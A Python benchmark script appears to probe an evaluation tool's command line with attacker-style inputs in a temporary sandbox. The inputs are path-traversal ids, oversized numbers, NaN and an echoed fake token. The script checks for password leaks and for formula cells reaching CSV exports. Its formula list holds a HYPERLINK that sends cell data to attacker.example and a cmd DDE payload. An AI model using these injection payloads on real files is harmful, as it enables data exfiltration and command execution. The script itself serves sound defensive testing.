"""Probes an attacker would try (issue 25), run through the CLI against a temporary store and folder.

Each probe runs on a fresh copy of a store holding the sample project (and, for the export probes, the
published ChatChecker run and a scenario), with the key `RIDGE_BOT_TOKEN` set in the environment:
- ids with path parts in every importer (project card, tools, procedures, documents' front matter, specs,
  conversation JSONL, personas, ChatChecker runs, scenarios), then every export of what was accepted;
- ids with path parts already in the store (an older version's data, a tampered file) through every export
  that names files after them (ChatChecker runs, personas, scenarios);
- values the importers must refuse with a located line: a CSV cell over 131,072 characters, 5,000-digit
  integers and NaN/Infinity in tool JSON, JSONL and YAML;
- a secret echoed in altered forms (base64, upper-cased, reversed, cut, spaced out) in imported text;
- formula cells (`=HYPERLINK(...)`, `+cmd|...`, `@SUM`, `-2+3`) reaching a CSV export;
- a store URL with its password in `init`/`status` output.

It prints, per probe, what happened, then: tried / refused / accepted / tracebacks / store changed (by a
refused probe or by an export) / files outside the export folder / secret forms kept / formula cells
written / passwords shown. Goal: tracebacks 0, store changed 0, files outside 0, and the last three 0.
Exit status 1 when a goal is missed.

    .venv/bin/python benchmarks/attack.py        # ~1 min
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import shutil
import sys
import tempfile
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

import sqlalchemy as sa  # noqa: E402
import yaml  # noqa: E402
from typer.testing import CliRunner  # noqa: E402

from evalcore.cli.main import SAMPLE_PROJECT, app  # noqa: E402
from evalcore.inputs import import_project  # noqa: E402
from evalcore.models import Conversation, Provenance, Run, Turn  # noqa: E402
from evalcore.models.common import FORMULA_STARTS  # noqa: E402
from evalcore.store import Store  # noqa: E402
from evalcore.store.schema import metadata  # noqa: E402

KEY_ENV, KEY = "RIDGE_BOT_TOKEN", "rb-live-7Qx2Lm9Zt4Wp8Kd3Vn6Hs1Jc5"
SECRET_FORMS = {
    "base64": base64.b64encode(KEY.encode()).decode(),
    "upper": KEY.upper(),
    "reversed": KEY[::-1],
    "cut to 20": KEY[:20],
    "spaced": " ".join(KEY),
}
FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
ESCAPES = ["../../../escaped", "/ABS/escaped", "..", "C:escaped", ".hidden"]
HUGE = "9" * 5000
PASSWORD = "pw-attack-0123456789"
runner = CliRunner()


@dataclass
class Outcome:
    """What one probe did."""

    name: str
    refused: bool = False
    traceback: bool = False
    store_changed: bool = False
    outside: list[str] = field(default_factory=list)
    leaks: list[str] = field(default_factory=list)
    note: str = ""


# A cache of each item's review state that the first read after an import fills: derived, not data.
DERIVED = {"annotation_states"}


def snapshot(url: str) -> dict[str, list[str]]:
    """Every row of every table but the derived ones, as text: equal snapshots mean nothing was written."""
    store = Store(url)
    try:
        with store.read() as conn:
            return {
                t.name: sorted(repr(tuple(r)) for r in conn.execute(sa.select(t)))
                for t in metadata.sorted_tables
                if t.name not in DERIVED
            }
    finally:
        store.close()


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() or p.is_symlink()}


class Sandbox:
    """A temporary root: the base store, a folder of probe inputs, and export folders four levels deep, so
    that '../../../x' from an export folder still lands inside the root, where it is seen."""

    def __init__(self, root: Path, base_store: Path) -> None:
        self.root, self.base_store, self.count = root, base_store, 0

    def fresh(self) -> tuple[str, Path, Path]:
        """A store copy, an inputs folder and an export folder (not created) for one probe."""
        self.count += 1
        case = self.root / f"case{self.count}"
        (case / "in").mkdir(parents=True)
        shutil.copyfile(self.base_store, case / "store.db")
        return f"sqlite:///{case / 'store.db'}", case / "in", case / "a" / "b" / "c" / "out"


def cli(*args: str) -> tuple[int, str, bool]:
    """Run `evalcore ARGS`; (exit code, output, whether it ended in a traceback)."""
    result = runner.invoke(app, list(args), env={KEY_ENV: KEY})
    crashed = result.exception is not None and not isinstance(result.exception, SystemExit)
    output = result.output
    if crashed:
        output += "".join(traceback.format_exception(result.exception))
    return result.exit_code, output, crashed or "Traceback" in result.output


def one_line(output: str) -> str:
    return " ".join(output.strip().splitlines()[:2])[:150]


def conversation_record(cid: str, text: str) -> dict:
    turns = [Turn(index=0, role="user", content=text), Turn(index=1, role="assistant", content="Noted.")]
    item = Conversation(id=cid, generator="human", turns=turns, provenance=Provenance(producer="attacker"))
    return item.model_dump(mode="json")


# --------------------------------------------------------------------------------------------- exports


def export_all(url: str, out_root: Path) -> list[tuple[str, int, str, bool]]:
    """Every export of the store into its own folder under `out_root`: (name, code, output, traceback)."""
    store = Store(url)
    try:
        runs = [r.id for p in store.projects() for r in store.runs(p.id)]
        sims = [r for p in store.projects() for r in store.runs(p.id, kind="simulation")]
    finally:
        store.close()
    del runs
    calls = [
        ("personas export", ["simulations", "personas", "export", "--out", str(out_root / "personas")]),
        ("scenarios export", ["scenarios", "export", "--out", str(out_root / "scenarios")]),
        ("inputs export", ["export", "inputs", "-o", str(out_root / "inputs.json")]),
        ("conversations export", ["conversations", "export", "--out", str(out_root / "conversations.jsonl")]),
        ("specs export", ["specs", "export", "-o", str(out_root / "specs.yaml")]),
    ]
    calls += [(f"simulations export {r.id}", ["simulations", "export", r.id, "--out", str(out_root / r.id)])
              for r in sims]  # fmt: skip
    done = []
    for name, args in calls:
        code, output, crashed = cli(*args, "--db", url)
        done.append((name, code, output, crashed))
    return done


def probe_import(sandbox: Sandbox, name: str, make: Callable[[Path], list[str]]) -> Outcome:
    """Run an import made by `make(inputs folder)`; a refusal must change nothing, an acceptance is then
    exported everywhere, and no file may appear outside the export folder."""
    url, inputs, out = sandbox.fresh()
    args = make(inputs)
    before, files_before = snapshot(url), files_under(sandbox.root)
    code, output, crashed = cli(*args, "--db", url)
    outcome = Outcome(name, refused=code != 0 and not crashed, traceback=crashed, note=one_line(output))
    if code != 0:
        outcome.store_changed = snapshot(url) != before
    else:
        before = snapshot(url)
        for export, _, text, export_crashed in export_all(url, out):
            outcome.traceback |= export_crashed
            if export_crashed:
                outcome.note += f" | {export}: {one_line(text)}"
        outcome.store_changed = snapshot(url) != before
    outcome.outside = outside(sandbox, files_before, out, url)
    return outcome


def outside(sandbox: Sandbox, before: set[Path], out: Path, url: str) -> list[str]:
    """Files that appeared in the sandbox outside the export folder (the store's own files aside)."""
    store_file = url.removeprefix("sqlite:///")
    return sorted(
        str(p.relative_to(sandbox.root))
        for p in files_under(sandbox.root) - before
        if not p.is_relative_to(out) and not str(p).startswith(store_file)
    )


# -------------------------------------------------------------------------------------------- importers


def sample_with(edit: Callable[[Path], None]) -> Callable[[Path], list[str]]:
    def make(inputs: Path) -> list[str]:
        project = Path(shutil.copytree(SAMPLE_PROJECT, inputs / "project"))
        edit(project)
        return ["import", str(project)]

    return make


def set_yaml(path: Path, key: str, value: object) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data[key] = value
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")


def set_json_text(path: Path, old: str, new: str) -> None:
    path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")


def tool_named(escape: str) -> Callable[[Path], None]:
    def edit(project: Path) -> None:
        path = project / "tools" / "check_stock.json"
        data = json.loads(path.read_text(encoding="utf-8"))
        data["name"] = escape
        path.write_text(json.dumps(data), encoding="utf-8")

    return edit


def front_matter_id(escape: str) -> Callable[[Path], None]:
    def edit(project: Path) -> None:
        path = project / "policies" / "return_policy.md"
        path.write_text(f"---\nid: {json.dumps(escape)}\n---\n" + path.read_text(encoding="utf-8"), "utf-8")

    return edit


def jsonl_import(lines: list[str]) -> Callable[[Path], list[str]]:
    def make(inputs: Path) -> list[str]:
        path = inputs / "items.jsonl"
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        return ["conversations", "import", str(path)]

    return make


def specs_import(text: str) -> Callable[[Path], list[str]]:
    def make(inputs: Path) -> list[str]:
        path = inputs / "specs.yaml"
        path.write_text(text, encoding="utf-8")
        return ["specs", "import", str(path), "--author", "attacker"]

    return make


def personas_import(persona_id: str) -> Callable[[Path], list[str]]:
    def make(inputs: Path) -> list[str]:
        path = inputs / "p.yaml"
        persona = {
            "persona_id": persona_id,
            "type": "standard",
            "profile": "A curious rider.",
            "task": "Ask.",
        }
        path.write_text(yaml.safe_dump(persona), encoding="utf-8")
        return ["simulations", "personas", "import", str(path)]

    return make


def chatchecker_import(reference: Path, user_name: str) -> Callable[[Path], list[str]]:
    def make(inputs: Path) -> list[str]:
        run = Path(shutil.copytree(reference, inputs / reference.name))
        dialogue = next(run.glob("*/dialogue_1.yaml"))
        set_yaml(dialogue, "user_name", user_name)
        return ["simulations", "import", str(run)]

    return make


def scenario_text(name: str) -> str:
    """A minimal valid scenario file (seed 003's format)."""
    goals = "  goals:\n    criteria:\n      - The agent greets back\n"
    return f"scenario:\n  name: {json.dumps(name)}\n  simulation_context: You say hello.\n{goals}"


def scenario_import(name: str) -> Callable[[Path], list[str]]:
    def make(inputs: Path) -> list[str]:
        path = inputs / "s.yml"
        path.write_text(scenario_text(name), encoding="utf-8")
        return ["scenarios", "import", str(path), "--author", "attacker"]

    return make


def import_probes(reference: Path | None, root: Path) -> list[tuple[str, Callable[[Path], list[str]]]]:
    """(name, make) of every import probe; an absolute path points into `root`, where it is seen."""
    probes: list[tuple[str, Callable[[Path], list[str]]]] = []
    for shown in ESCAPES:
        escape = shown.replace("/ABS", str(root))
        probes += [
            (
                f"project card id {shown}",
                sample_with(lambda p, e=escape: set_yaml(p / "system.yaml", "id", e)),
            ),
            (f"tool name {shown}", sample_with(tool_named(escape))),
            (f"document id {shown}", sample_with(front_matter_id(escape))),
            (
                f"procedure id {shown}",
                sample_with(lambda p, e=escape: set_yaml(p / "procedures" / "track_order.yaml", "id", e)),
            ),
            (f"conversation id {shown}", jsonl_import([json.dumps(conversation_record(escape, "hi"))])),
            (
                f"spec id {shown}",
                specs_import(
                    f"- id: {json.dumps(escape)}\n  scenario: x\n  given: g\n  when: w\n  then: t\n"
                ),
            ),
            (f"persona id {shown}", personas_import(escape)),
            (f"scenario name {shown}", scenario_import(escape)),
        ]
        if reference is not None:
            probes.append((f"ChatChecker user_name {shown}", chatchecker_import(reference, escape)))
    # values that must be refused at their line
    record = conversation_record("c-num", "hi") | {"metadata": {"score": "NUMBER"}}

    def number_line(number: str) -> str:  # in the conversation's free-form metadata, which takes any JSON
        return json.dumps(record).replace('"NUMBER"', number)

    probes += [
        ("CSV cell of 131,073 characters", sample_with(lambda p: _long_cell(p / "tables" / "stores.csv"))),
        (
            "5,000-digit integer in a tool",
            sample_with(
                lambda p: set_json_text(
                    p / "tools" / "check_stock.json",
                    '"parameters": {',
                    f'"parameters": {{"maxItems": {HUGE},',
                )
            ),
        ),
        (
            "NaN in a tool schema",
            sample_with(
                lambda p: set_json_text(
                    p / "tools" / "check_stock.json", '"parameters": {', '"parameters": {"maximum": NaN,'
                )
            ),
        ),
        (
            "Infinity in a tool schema",
            sample_with(
                lambda p: set_json_text(
                    p / "tools" / "check_stock.json",
                    '"parameters": {',
                    '"parameters": {"maximum": -Infinity,',
                )
            ),
        ),
        (
            "5,000-digit integer in a procedure YAML",
            sample_with(lambda p: _prepend(p / "procedures" / "track_order.yaml", f"priority: {HUGE}\n")),
        ),
        ("5,000-digit integer in a JSONL line", jsonl_import([number_line(HUGE)])),
        ("NaN in a JSONL line", jsonl_import([number_line("NaN")])),
        ("Infinity in a JSONL line", jsonl_import([number_line("Infinity")])),
    ]
    return probes  # fmt: skip


def _long_cell(path: Path) -> None:
    lines = path.read_text(encoding="utf-8").splitlines()
    lines.insert(2, '"' + "x" * 131_073 + '"' + "," * lines[0].count(","))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _prepend(path: Path, text: str) -> None:
    path.write_text(text + path.read_text(encoding="utf-8"), encoding="utf-8")


# ------------------------------------------------------------------------------ tampered store, exports


def tamper(url: str, kind: str, field_path: tuple[str, ...], value: str) -> None:
    """Write `value` at `field_path` of the current body of the first item of `kind`, as an older version
    or a hand-edited database could hold it (bypassing every importer)."""
    from evalcore.store import schema as t

    store = Store(url)
    try:
        with store.write() as conn:
            row = conn.execute(
                sa.select(t.revisions.c.item_id, t.revisions.c.version, t.revisions.c.body)
                .join(t.items, t.items.c.id == t.revisions.c.item_id)
                .where(t.items.c.kind == kind)
                .order_by(t.revisions.c.version.desc())
            ).first()
            if row is None:
                raise SystemExit(f"no {kind} item to tamper with")
            body = json.loads(row.body) if isinstance(row.body, str) else dict(row.body)
            target = body
            for part in field_path[:-1]:
                target = target[part]
            target[field_path[-1]] = value
            conn.execute(
                sa.update(t.revisions)
                .where(t.revisions.c.item_id == row.item_id, t.revisions.c.version == row.version)
                .values(body=body)
            )
    finally:
        store.close()


def probe_tampered(sandbox: Sandbox, name: str, kind: str, path: tuple[str, ...], value: str) -> Outcome:
    url, _, out = sandbox.fresh()
    tamper(url, kind, path, value)
    before, files_before = snapshot(url), files_under(sandbox.root)
    outcome = Outcome(name)
    refusals = []
    for export, code, output, crashed in export_all(url, out):
        outcome.traceback |= crashed
        if code != 0 and not crashed:
            refusals.append(f"{export}: {one_line(output)}")
        if crashed:
            outcome.note += f" | {export} crashed: {one_line(output)}"
    outcome.refused = bool(refusals)
    outcome.note = "; ".join(refusals)[:150] + outcome.note
    outcome.store_changed = snapshot(url) != before
    outcome.outside = outside(sandbox, files_before, out, url)
    return outcome


# ------------------------------------------------------------------------------------ secrets, formulas


def probe_secrets(sandbox: Sandbox) -> Outcome:
    url, inputs, _ = sandbox.fresh()
    text = " | ".join(f"{k}: {v}" for k, v in SECRET_FORMS.items())
    code, output, crashed = cli(
        "conversations",
        "import",
        _write(inputs / "echo.jsonl", conversation_record("c-echo", text)),
        "--db",
        url,
    )
    outcome = Outcome("secret echoed in altered forms", traceback=crashed, note=one_line(output))
    dump = "\n".join(line for rows in snapshot(url).values() for line in rows)
    outcome.leaks = [form for form, value in SECRET_FORMS.items() if value in dump]
    outcome.refused = code != 0
    return outcome


def _write(path: Path, record: dict) -> str:
    path.write_text(json.dumps(record) + "\n", encoding="utf-8")
    return str(path)


def probe_formulas(sandbox: Sandbox) -> Outcome:
    from evalcore.runs.records import JudgedTurn
    from evalcore.runs.store_ops import insert_judgments
    from evalcore.specs.drafts import SpecDraft
    from evalcore.specs.store_ops import add_specs

    url, _, out = sandbox.fresh()
    store = Store(url)
    try:
        pid = store.projects()[0].id
        drafts = [SpecDraft(scenario=f, given=f, when="w", then="t", category=f) for f in FORMULAS]
        spec_ids = add_specs(store, pid, drafts, Provenance(producer="attacker"))
        store.start_run(pid, Run(id="r-formula", kind="run", target=FORMULAS[0], params={"project_id": pid}))
        judged = [
            JudgedTurn(
                run_id="r-formula",
                conversation_id=f"c{n}",
                turn_index=1,
                score=0,
                error_type=formula,
                judge="offline",
                spec_id=spec,
                reply=formula,
                question=formula,
            )
            for n, (spec, formula) in enumerate(zip(spec_ids, FORMULAS, strict=True))
        ]
        with store.write() as conn:
            insert_judgments(conn, judged)
    finally:
        store.close()
    outcome = Outcome("formula cells in CSV exports")
    out.mkdir(parents=True)
    for table in ("spec", "error_type", "error_class", "query_type", "turns"):
        code, output, crashed = cli(
            "report", "--run", "r-formula", "--by", table, "--format", "csv", "--db", url
        )
        outcome.traceback |= crashed
        if code not in (0, 1):
            outcome.note += f" {table}: {one_line(output)}"
        data = "\n".join(x for x in output.split("\n") if not x.startswith("#"))
        cells = [c for row in csv.reader(io.StringIO(data, newline="")) for c in row]
        outcome.leaks += [f"{table}: {c[:30]}" for c in cells if c.startswith(FORMULA_STARTS)]
    return outcome


def probe_password(sandbox: Sandbox) -> Outcome:
    url, _, _ = sandbox.fresh()
    outcome = Outcome("store URL password in init / status / errors")
    bad_urls = [
        f"postgresql://evalcore:{PASSWORD}@127.0.0.1:1/evalcore?connect_timeout=1",
        f"postgresql://evalcore:{PASSWORD}@x@127.0.0.1:1/evalcore",
        f"postgresql://evalcore@127.0.0.1:1/evalcore?password={PASSWORD}&connect_timeout=1",
    ]
    for args in (["status", "--db", url], *(["status", "--db", u] for u in bad_urls)):
        _, output, crashed = cli(*args)
        if PASSWORD in output or PASSWORD[:12] in output:
            outcome.leaks.append(args[-1][:40])
        outcome.traceback |= crashed and PASSWORD in output
    return outcome


# ----------------------------------------------------------------------------------------------- main


def base_store(folder: Path, reference: Path | None) -> Path:
    from evalcore.generators.scenario.store_ops import import_scenarios
    from evalcore.generators.simulation import import_chatchecker_run

    url = f"sqlite:///{folder / 'base.db'}"
    store = Store(url)
    try:
        pid = import_project(store, SAMPLE_PROJECT).project_id
        scenario = folder / "greet.yml"
        scenario.write_text(scenario_text("greet"), encoding="utf-8")
        import_scenarios(store, pid, [scenario], "bench")
        if reference is not None:
            import_chatchecker_run(store, reference, project_id=pid)
    finally:
        store.close()
    return folder / "base.db"


def reference_run() -> Path | None:
    for parent in ROOT.parents:
        runs = parent / "shared" / "reference" / "chatchecker" / "runs" / "study_goal_assistant"
        found = sorted(runs.glob("paper_standard_*")) if runs.is_dir() else []
        if found:
            return found[0]
    return None


def main() -> int:
    os.environ[KEY_ENV] = KEY
    os.environ.pop("EVALCORE_DATABASE_URL", None)
    reference = reference_run()
    with tempfile.TemporaryDirectory(prefix="evalcore-attack-") as tmp:
        root = Path(tmp)
        sandbox = Sandbox(root / "sandbox", base_store(root, reference))
        (root / "sandbox").mkdir()
        outcomes = []
        for name, make in import_probes(reference, root / "sandbox"):
            outcomes.append(probe_import(sandbox, name, make))
            _print(outcomes[-1])
        tampered = [
            ("stored persona id", "persona", ("persona_id",)),
            ("stored scenario file name", "scenario", ("file",)),
        ]
        if reference is not None:
            tampered.append(("stored ChatChecker user_name", "conversation", ("metadata", "user_name")))
        for label, kind, path in tampered:
            for escape in ESCAPES[:2]:
                value = escape.replace("/ABS", str(root / "sandbox"))
                outcomes.append(probe_tampered(sandbox, f"{label} {escape}", kind, path, value))
                _print(outcomes[-1])
        for probe in (probe_secrets, probe_formulas, probe_password):
            outcomes.append(probe(sandbox))
            _print(outcomes[-1])
    finding_1 = sum(len(o.outside) for o in outcomes if "persona id" in o.name)
    totals = {
        "tried": len(outcomes),
        "refused": sum(o.refused for o in outcomes),
        "accepted": sum(not o.refused for o in outcomes),
        "tracebacks": sum(o.traceback for o in outcomes),
        "store changed": sum(o.store_changed for o in outcomes),
        "files outside the export folder": sum(len(o.outside) for o in outcomes),
        "secret forms, formula cells, passwords shown": sum(len(o.leaks) for o in outcomes),
    }
    print()
    for name, value in totals.items():
        print(f"{name:>46}: {value}")
    if finding_1:
        print(f"{'':>46}  ({finding_1} of them by persona ids: finding 1, fixed on main separately)")
    missed = [k for k in list(totals)[3:] if totals[k]]
    if missed:
        print("goal missed: " + ", ".join(missed))
    return 1 if missed else 0


def _print(o: Outcome) -> None:
    status = "TRACEBACK" if o.traceback else ("refused" if o.refused else "accepted")
    flags = [f for f, on in (("STORE CHANGED", o.store_changed),) if on]
    flags += [f"OUTSIDE {p}" for p in o.outside] + [f"LEAK {x}" for x in o.leaks]
    print(f"{status:>9}  {o.name:<48} {' '.join(flags)}  {o.note[:110]}")


if __name__ == "__main__":
    sys.exit(main())
